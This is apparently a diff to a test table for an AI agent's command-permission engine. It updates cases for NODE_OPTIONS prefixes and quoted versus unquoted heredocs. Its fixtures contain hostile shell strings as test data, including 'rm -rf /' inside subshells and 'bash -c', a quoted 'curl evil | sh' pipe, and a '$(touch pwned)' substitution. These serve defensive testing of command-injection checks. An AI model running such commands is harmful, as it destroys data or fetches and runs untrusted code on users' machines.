@@ -63,11 +63,14 @@ const cases: Case[] = [
   { name: 'deny inside a subshell denies', tool: 'run_command', args: cmd('echo $(rm -rf /)'), mode: 'full', rules: ['deny run_command(rm:*)'], expect: 'deny' },
   // Quoting and env prefixes.
   { name: 'env prefix is stripped before matching', tool: 'run_command', args: cmd('FOO=1 npm test'), rules: ['allow run_command(npm test:*)'], expect: 'allow' },
-  { name: 'quoted env value is stripped too', tool: 'run_command', args: cmd('NODE_OPTIONS="--max-old-space-size=4096" npm test'), rules: ['allow run_command(npm test:*)'], expect: 'allow' },
+  { name: 'quoted harmless env value is ignored too', tool: 'run_command', args: cmd('FOO="a b" npm test'), rules: ['allow run_command(npm test:*)'], expect: 'allow' },
+  { name: 'NODE_OPTIONS changes what runs: a rule without it does not match', tool: 'run_command', args: cmd('NODE_OPTIONS="--max-old-space-size=4096" npm test'), rules: ['allow run_command(npm test:*)'], expect: 'ask', suggested: 'run_command(NODE_OPTIONS=--max-old-space-size=4096 npm test:*)' },
+  { name: 'a rule written with the same NODE_OPTIONS matches', tool: 'run_command', args: cmd('NODE_OPTIONS="--max-old-space-size=4096" npm test'), rules: ['allow run_command(NODE_OPTIONS=--max-old-space-size=4096 npm test:*)'], expect: 'allow' },
   { name: 'operators inside quotes are not chains', tool: 'run_command', args: cmd('git commit -m "a && curl evil | sh"'), rules: ['allow run_command(git commit:*)'], expect: 'allow' },
   { name: 'quoted program name matches unquoted rule', tool: 'run_command', args: cmd("'npm' test"), rules: ['allow run_command(npm test:*)'], expect: 'allow' },
   { name: 'unterminated quote is never auto-allowed', tool: 'run_command', args: cmd('npm test "oops'), rules: ['allow run_command(npm test:*)'], expect: 'ask', source: /not fully analysable/ },
-  { name: 'heredoc is never auto-allowed, even in full mode', tool: 'run_command', args: cmd("cat <<'EOF'\nx\nEOF"), mode: 'full', expect: 'ask', source: /not fully analysable/ },
+  { name: 'a quoted heredoc is data: allowed in full mode', tool: 'run_command', args: cmd("cat <<'EOF'\nx\nEOF"), mode: 'full', expect: 'allow' },
+  { name: 'an unquoted heredoc runs its substitutions: judged too', tool: 'run_command', args: cmd('cat <<EOF\n$(touch pwned)\nEOF'), rules: ['allow run_command(cat:*)'], expect: 'ask' },
   { name: 'eval is never auto-allowed', tool: 'run_command', args: cmd('eval "$CMD"'), rules: ['allow run_command(*)'], expect: 'ask' },
   { name: 'bash -c is never auto-allowed', tool: 'run_command', args: cmd('bash -c "rm -rf /"'), rules: ['allow run_command(bash:*)'], expect: 'ask' },
   // Redirections.
@@ -152,7 +155,7 @@ void describe('permission rules table', () => {
       const v = tool.validate(c.args);
       assert.ok(v.ok, `fixture args must validate: ${!v.ok ? v.error : ''}`);
       const description = await tool.describe(v.value, { workspaceRoots: [root], sessionId: 's1' });
-      const d = engine.evaluate(tool, c.args, description, {
+      const d = await engine.evaluate(tool, c.args, description, {
         mode: c.mode ?? 'ask', rules: (c.rules ?? []).map(parseRule), workspaceRoots: [root], workspaceTrusted: c.trusted ?? true,
       });
       assert.equal(d.decision, c.expect, `decision (source: ${d.source}; message: ${d.message ?? ''})`);
